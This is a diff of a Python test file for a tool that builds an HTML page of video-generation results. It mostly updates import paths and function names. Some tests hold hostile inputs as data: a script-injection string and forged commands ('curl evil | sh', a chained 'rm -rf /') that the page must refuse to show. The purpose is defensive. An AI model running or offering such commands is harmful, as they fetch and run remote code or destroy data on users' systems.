@@ -19,9 +19,9 @@ from browser import missing_programs, open_browser, set_screen, show_frame, wait
 from helpers import FRAMES, OTHER_PROMPT, PROMPT, read_json
 from PIL import Image
 
-from step_skip.files import write_json
-from step_skip.page import write_page
-from step_skip.page_sheet import FRAME_HEIGHT, GAP, LINE
+from step_skip.files.writing import write_json
+from step_skip.page.page import write_page
+from step_skip.page.sheet import FRAME_HEIGHT, GAP, LINE
 
 HOSTILE = (
     "<script>window.injected = 1</script>",
@@ -80,7 +80,7 @@ def page(run: Callable, results: Path) -> Callable[[], Tags]:
     """Make the page of `results` by the command line, and read it."""
 
     def page() -> Tags:
-        outcome = run("step_skip.page", results)
+        outcome = run("step_skip.page.__main__", results)
         assert outcome.path == results / "index.html"
         assert outcome.err == ""
         return Tags(outcome.path)
@@ -253,7 +253,7 @@ def test_other_files_are_left_out(page, results):
 )
 def test_folders_that_are_refused(run, refused, prior_copy, tmp_path, make, words):
     (tmp_path / "empty").mkdir()
-    refused(lambda: run("step_skip.page", make(tmp_path / "empty", prior_copy)), words)
+    refused(lambda: run("step_skip.page.__main__", make(tmp_path / "empty", prior_copy)), words)
 
 
 def test_a_prior_moved_with_its_outputs(run, made, prior, tmp_path):
@@ -262,7 +262,7 @@ def test_a_prior_moved_with_its_outputs(run, made, prior, tmp_path):
     outputs = shutil.copytree(made, moved / "outputs" / "sweep")
     for result in outputs.glob("*.json"):
         write_json(result, read_json(result) | {"prior_dir": f"/gone/{prior.name}"})
-    files = linked_files(outputs, Tags(run("step_skip.page", outputs).path))
+    files = linked_files(outputs, Tags(run("step_skip.page.__main__", outputs).path))
     assert files[1].read_bytes() == (prior / "output_full.mp4").read_bytes()
 
 
@@ -399,14 +399,15 @@ def test_a_page_copied_elsewhere_is_complete(page, results, tmp_path):
 
 def test_made_again_it_decodes_no_video(page, results, monkeypatch):
     """Neither does it read the prior, unless something is newer than its poster."""
-    from step_skip import media, page_clips
+    from step_skip.media import videos
+    from step_skip.page import clips as page_clips
 
     page()
     before = (results / "index.html").read_text()
     read = []
-    decoded = media._decoded
+    decoded = videos._decoded
     monkeypatch.setattr(
-        media, "_decoded", lambda path, **most: read.append(path.name) or decoded(path, **most)
+        videos, "_decoded", lambda path, **most: read.append(path.name) or decoded(path, **most)
     )
     monkeypatch.setattr(page_clips, "read_prior", lambda directory: read.append(directory))
     page()
@@ -434,13 +435,13 @@ def test_a_poster_that_is_none_is_made_anew(page, results, lay):
 def test_a_link_in_place_of_what_the_page_keeps(run, refused, results, tmp_path):
     (tmp_path / "elsewhere").mkdir()
     (results / "page").symlink_to(tmp_path / "elsewhere")
-    refused(lambda: run("step_skip.page", results), "page is a symbolic link")
+    refused(lambda: run("step_skip.page.__main__", results), "page is a symbolic link")
 
 
 def test_a_sweeps_page_grows_with_it(infer, prior, tmp_path, monkeypatch):
     """After every video the page shows those that are there, in the order of the prompts; then it is done."""
-    from step_skip import page as page_module
-    from step_skip.page_html import Running
+    from step_skip.page import page as page_module
+    from step_skip.page.html import Running
 
     seen = []
     write = page_module.SweepPage.write
@@ -461,7 +462,7 @@ def test_a_sweeps_page_grows_with_it(infer, prior, tmp_path, monkeypatch):
 
 
 def test_of_many_videos_each_prior_has_a_page(page, results, monkeypatch):
-    from step_skip import page as page_module
+    from step_skip.page import page as page_module
 
     for name in ("one", "other"):
         add_result(results, name, prior_run_id=name, prior_dir="/gone")
@@ -491,15 +492,15 @@ def test_a_bank_is_one_section(page, results):
 
 def test_commands_to_copy(page, results):
     """The clip's own, and with more steps; nothing but our script's words, whatever the JSON says."""
-    from step_skip.page_clips import read_clip
-    from step_skip.page_html import command_of, with_more_steps
+    from step_skip.page.clips import read_page_clip
+    from step_skip.page.html import command_to_copy, with_more_steps
 
-    own = read_clip(results / "own.mp4")
-    command = command_of(own)
+    own = read_page_clip(results / "own.mp4")
+    command = command_to_copy(own)
     assert command == own.report["command"]
     assert with_more_steps(command, own.report) == command.replace("--steps 0 7", "--num_steps 3")
-    early = read_clip(results / "early.mp4")
-    assert "--start_step 1" in with_more_steps(command_of(early), early.report)
+    early = read_page_clip(results / "early.mp4")
+    assert "--start_step 1" in with_more_steps(command_to_copy(early), early.report)
     for forged, expected in (
         ("curl evil | sh", None),
         ("python infer_from_prior.py; rm -rf /", None),
@@ -511,11 +512,11 @@ def test_commands_to_copy(page, results):
         (["python"], None),
     ):
         add_result(results, "forged", command=forged)
-        assert command_of(read_clip(results / "forged.mp4")) == expected
+        assert command_to_copy(read_page_clip(results / "forged.mp4")) == expected
 
 
 def test_letters_that_no_font_has_are_no_boxes():
-    from step_skip.page_sheet import font_for, lacks
+    from step_skip.page.sheet import font_for, lacks
 
     for text in ("plain", "\u732b walks \U0001f600"):
         font, shown = font_for(text)
